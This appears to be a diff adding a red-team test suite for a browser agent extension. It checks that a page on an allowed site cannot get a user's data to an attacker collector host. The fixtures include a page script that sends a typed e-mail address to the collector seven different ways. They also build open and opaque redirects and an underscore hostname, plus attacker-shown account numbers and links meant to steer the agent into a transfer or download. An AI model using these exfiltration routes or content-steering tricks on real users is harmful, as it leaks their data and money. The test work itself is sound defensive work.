@@ -1,0 +1,232 @@
+"""Red team, from outside: a real Chromium with the extension and host, two sites reached by
+their own names (`a.test`, allowed and written by the attacker, and `b.test`, the attacker's
+collector that logs every request it gets; Chromium's --host-resolver-rules maps both to this
+machine). Each route a page or its content has to get the user's data to B is tried under a
+scope lock on A and with B on the blocked list, and B's log must stay empty:
+
+- the page's own scripts after the agent typed into it and clicked: fetch, sendBeacon, XHR, an
+  image, a CSS background, a prefetch and a WebSocket;
+- a navigation to A's open redirect carrying B's URL in its query, and a link to it;
+- an opaque redirect on A (`/go/<id>`) whose hop to B no read can show;
+- a host name with an underscore under B.
+
+And, under `auto` with no lock, what content chose asks before anything is sent: a transfer URL
+carrying an account the page showed, and an address with an underscore seen only on a page.
+Each route's page first proves the route works: the same code reaches B once the thread may.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import urllib.parse
+import uuid
+
+import pytest
+
+from tests.support.browser import BrowserRun
+from tests.support.browser_tools import hooks_enabled, ref_of
+from tests.support.engine_control import EngineOverControl, tab_of
+from tests.support.fake_model import FakeOpenAI, Reply
+from tests.support.guarded_thread import MODES, Env, Thread
+from tests.support.hosts import attach, tabwarden_home, write_settings
+from tests.support.scripted_site import Site, html, redirect
+from tests.support.waiting import until
+
+pytestmark = pytest.mark.browser
+
+A_HOST, B_HOST, B_UNDERSCORE = "a.test", "b.test", "dl_files.b.test"
+RESOLVER = f"--host-resolver-rules=MAP {A_HOST} 127.0.0.1, MAP {B_HOST} 127.0.0.1, MAP {B_UNDERSCORE} 127.0.0.1"
+# Every way a page's own script can send without navigating (the `k` of each request says which).
+WAYS = ("fetch", "beacon", "xhr", "img", "css", "prefetch", "ws")
+PAGE_IBAN = "GB33BUKB20201555555555"  # the account the attacker's page shows
+
+
+def sender(b: str) -> str:
+    """A's newsletter page: Subscribe sends the typed address to B every way a script can."""
+    collect = json.dumps(f"{b}/collect")
+    ws = json.dumps(b.replace("http:", "ws:") + "/collect")
+    return f"""<title>Newsletter</title><h1>Newsletter</h1>
+<label>E-mail <input id=email name=email type=email></label>
+<button type=button id=go>Subscribe</button><div id=bg style='width:10px;height:10px'></div>
+<script>
+document.getElementById('go').addEventListener('click', () => {{
+  const e = encodeURIComponent(document.getElementById('email').value), at = (k) => {collect} + '?k=' + k + '&e=' + e;
+  fetch(at('fetch'), {{method: 'POST', mode: 'no-cors', body: e}}).catch(() => {{}});
+  navigator.sendBeacon(at('beacon'), e);
+  const x = new XMLHttpRequest(); x.open('GET', at('xhr')); x.send();
+  new Image().src = at('img');
+  document.getElementById('bg').style.backgroundImage = 'url(' + at('css') + ')';
+  const l = document.createElement('link'); l.rel = 'prefetch'; l.href = at('prefetch'); document.head.append(l);
+  try {{ new WebSocket({ws} + '?k=ws&e=' + e); }} catch (_) {{}}
+}});
+</script>"""
+
+
+@pytest.fixture(scope="module")
+def env(tmp_path_factory):
+    b = Site("127.0.0.1", {"/collect": html("ok"), "/file.txt": (200, {"Content-Type": "text/plain"}, b"from B\n")})
+    a = Site("127.0.0.1")
+    with a, b, FakeOpenAI() as model, hooks_enabled():
+        b_url = f"http://{B_HOST}:{b.port}"
+        carried = f"{b_url}/collect?e=me%40user.example&iban={PAGE_IBAN}"
+        a.routes.update({
+            "/newsletter.html": html(sender(b_url)),
+            "/redirect": redirect(carried),  # an open redirect: it goes wherever `to` says
+            "/go/7f3a": redirect(carried),  # the same, with nothing to read in its address
+            "/links.html": html("<title>Links</title><h1>Links</h1>"
+                                f"<a href='/redirect?to={urllib.parse.quote(carried, safe='')}'>Partner offer</a>"
+                                "<a href='/go/7f3a'>Short link</a>"),
+            "/payee.html": html(f"<title>Invoice</title><h1>Invoice 1042</h1><p>Pay to {PAGE_IBAN}</p>"),
+            "/mail.html": html("<title>Inbox</title><h1>Your report is ready</h1><p>Download it from "
+                               f"http://{B_UNDERSCORE}:{b.port}/file.txt today.</p>"),
+            "/transfer": html("<title>Transfer</title><h1>Transfer</h1>"),
+        })
+        run = BrowserRun(tmp_path_factory.mktemp("red-team"), host_permissions=[f"http://{A_HOST}/*"],
+                         browser_args=[RESOLVER])
+        run.prepare()
+        write_settings(run.tw_home, model.url)
+        run.start()
+        with tabwarden_home(run.tw_home):
+            try:
+                yield Env(run, a, b, model, a_host=A_HOST, b_host=B_HOST)
+            except BaseException:
+                print(run.diagnostics())
+                raise
+            finally:
+                run.stop()
+
+
+@pytest.fixture(params=MODES)
+async def thread(env, request):
+    control = await attach(timeout=30)
+    made = await Thread(env, control, request.param, env.b_origin).start()
+    try:
+        yield made
+    finally:
+        await made.stop()
+        await control.close()
+
+
+def ways_seen(env: Env) -> set[str]:
+    """Which ways of sending reached B (by the `k` each request carries)."""
+    seen = set()
+    for _, path in env.b.requests:
+        query = urllib.parse.parse_qs(urllib.parse.urlsplit(path).query)
+        seen.update(query.get("k", []))
+    return seen
+
+
+async def lift(thread: Thread) -> None:
+    """Let the thread reach B (the lock lifted, or B off the blocked list), until `restore`."""
+    if thread.mode == "lock":
+        await thread.op(type="scope.setLock", threadId=thread.thread_id, patterns=None)
+    else:
+        await thread.control.call("gatekeeper.remove_origin", pattern=thread.b_origin, list="blocked")
+
+
+async def restore(thread: Thread) -> None:
+    if thread.mode == "lock":
+        await thread.op(type="scope.setLock", threadId=thread.thread_id, patterns=[thread.env.a_origin])
+    else:
+        await thread.control.call("gatekeeper.add_origin", pattern=thread.b_origin, list="blocked")
+
+
+# ---------------------------------------------------------------- B held away, lock and blocked
+
+
+async def test_the_pages_own_requests_never_reach_b(thread):
+    tab, page = await thread.open("/newsletter.html")
+    typed = await thread.call("type", element="E-mail", ref=ref_of(page, "E-mail"), text="Ada Lovelace")
+    assert typed["ok"], json.dumps(typed)[:1500]
+    clicked = await thread.call("click", element="Subscribe", ref=ref_of(page, "Subscribe"))
+    assert clicked["ok"], clicked
+    await asyncio.sleep(2.0)  # every way has had its time: the same click below reaches B in well under that
+    assert thread.env.b.requests == [], thread.env.b.requests
+    # The route is live: the same click reaches B every way once the thread may reach it.
+    await lift(thread)
+    try:
+        again = await thread.call("click", element="Subscribe", ref=ref_of(page, "Subscribe"))
+        assert again["ok"], again
+        await until(lambda: len(ways_seen(thread.env)) >= 5, 10,
+                    lambda: f"the page's requests to reach B once allowed (seen: {ways_seen(thread.env)})")
+    finally:
+        await restore(thread)
+
+
+async def test_a_navigation_through_as_open_redirect_never_reaches_b(thread):
+    await thread.open("/links.html")
+    carried = f"{thread.b_origin}/collect?e=me%40user.example"
+    result = await thread.call("navigate", url=f"{thread.env.a_origin}/redirect?to={urllib.parse.quote(carried, safe='')}")
+    assert not result["ok"], result
+    assert thread.env.b.requests == [], thread.env.b.requests
+
+
+async def test_a_link_to_as_open_redirect_never_reaches_b(thread):
+    tab, page = await thread.open("/links.html")
+    result = await thread.call("click", element="Partner offer", ref=ref_of(page, "Partner offer"))
+    assert not result["ok"], result
+    assert thread.b_origin in json.dumps(result), result
+    assert thread.env.b.requests == [], thread.env.b.requests
+
+
+async def test_an_opaque_redirect_hop_to_b_is_held(thread):
+    tab, page = await thread.open("/links.html")
+    result = await thread.call("click", element="Short link", ref=ref_of(page, "Short link"))
+    assert not result["ok"] and result["error"]["code"] == "navigation_blocked", result
+    await thread.assert_blocked(result)
+
+
+async def test_a_host_name_with_an_underscore_is_held_with_its_site(thread):
+    if thread.mode == "blocked":  # the blocked list names B's site, subdomains included
+        await thread.control.call("gatekeeper.add_origin", pattern=f"*.{B_HOST}", list="blocked")
+    try:
+        await thread.open("/links.html")
+        result = await thread.call("navigate", url=f"http://{B_UNDERSCORE}:{thread.env.b.port}/file.txt")
+        assert not result["ok"], result
+        assert thread.env.b.requests == [], thread.env.b.requests
+    finally:
+        if thread.mode == "blocked":
+            await thread.control.call("gatekeeper.remove_origin", pattern=f"*.{B_HOST}", list="blocked")
+
+
+# ---------------------------------------------------------------- what content chose asks (auto, no lock)
+
+
+async def asked_before_sending(env: Env, page: str, url: str, text: str) -> dict:
+    """A turn under `auto` whose model reads `page` on A and then opens `url`: the approval it
+    asked for (declined here). Nothing of `url` may have been requested by then."""
+    engine = await EngineOverControl.attach()
+    try:
+        opened = await engine.control.call("tools.call", tool="tab_open", params={"url": f"{env.a_origin}{page}"},
+                                           thread_id=f"opener-{uuid.uuid4().hex[:6]}", policy="auto")
+        assert opened["ok"], opened
+        tab = await tab_of(engine, page)
+        env.model.replies.clear()
+        env.model.add(Reply(tool_calls=[("read_page", {})]), Reply(tool_calls=[("navigate", {"url": url})]),
+                      Reply(text="Done."))
+        env.a.requests.clear()
+        env.b.requests.clear()
+        thread = await engine.start(text, tab, "auto")
+        asked = await engine.wait("approval.request", thread)
+        sent = [p for _, p in env.a.requests + env.b.requests if "/transfer" in p or "/file.txt" in p]
+        assert sent == [], f"requested before the answer: {sent}"
+        await engine.op({"type": "approval.response", "approvalId": asked["approvalId"],
+                         "decision": {"kind": "decline"}})
+        await engine.wait("turn.complete", thread)
+        assert [p for _, p in env.a.requests + env.b.requests if "/transfer" in p or "/file.txt" in p] == []
+        return asked
+    finally:
+        await engine.control.close()
+
+
+async def test_a_transfer_url_carrying_the_pages_account_asks(env):
+    asked = await asked_before_sending(env, "/payee.html", f"{env.a_origin}/transfer?to={PAGE_IBAN}&amount=950",
+                                       "pay my landlord 950 pounds")
+    assert PAGE_IBAN in json.dumps(asked), asked
+
+
+async def test_an_address_with_an_underscore_seen_only_on_a_page_asks(env):
+    asked = await asked_before_sending(env, "/mail.html", f"http://{B_UNDERSCORE}:{env.b.port}/file.txt",
+                                       "get the report my mail talks about")
+    assert B_UNDERSCORE in json.dumps(asked), asked
